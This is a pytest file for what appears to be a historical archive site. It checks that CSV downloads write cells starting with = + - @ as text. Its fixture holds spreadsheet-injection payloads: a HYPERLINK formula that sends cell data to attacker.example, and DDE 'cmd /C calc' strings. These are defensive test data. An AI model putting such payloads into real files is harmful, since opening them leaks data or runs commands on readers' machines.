"""Public CSV downloads open in a historian's spreadsheet: a cell that begins with = + - @ is
written as text (a leading apostrophe), never as a formula; counts stay numbers."""

import csv
import io

import pytest

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"click")', "+7 (495) 123",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]  # fmt: skip


@pytest.fixture
def hostile(camp):
    for i, text in enumerate(FORMULAS):
        camp.woman(text, born=1900 + i, fields={"nationality": text},
                   events=[{"type": "camp_arrival", "on": "1938-02-02", "place": camp.alzhir,
                            "text": text}])  # fmt: skip
    return camp


def rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode())))


def assert_no_formula(table):
    cells = [cell for row in table for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or c.startswith("-2")]
    return cells


def test_the_table_csv_writes_formulas_as_text(client, hostile):
    table = rows(client.get("/en/stats/nationality.csv"))
    cells = assert_no_formula(table)
    assert "'" + FORMULAS[0] in cells
    assert table[-1][2] == str(len(FORMULAS))  # the total is still a number


def test_the_drilldown_csv_writes_formulas_as_text(client, hostile):
    row = FORMULAS[1]
    response = client.get("/en/stats/nationality/records.csv", {"row": row, "col": "persons"})
    assert response.status_code == 200
    table = rows(response)
    assert len(table) == 2
    assert table[1][1] == "'" + FORMULAS[1] and table[1][0].isdigit()
    everyone = rows(client.get("/en/stats/overview/records.csv",
                               {"row": "persons", "col": "persons"}))  # fmt: skip
    assert_no_formula(everyone)
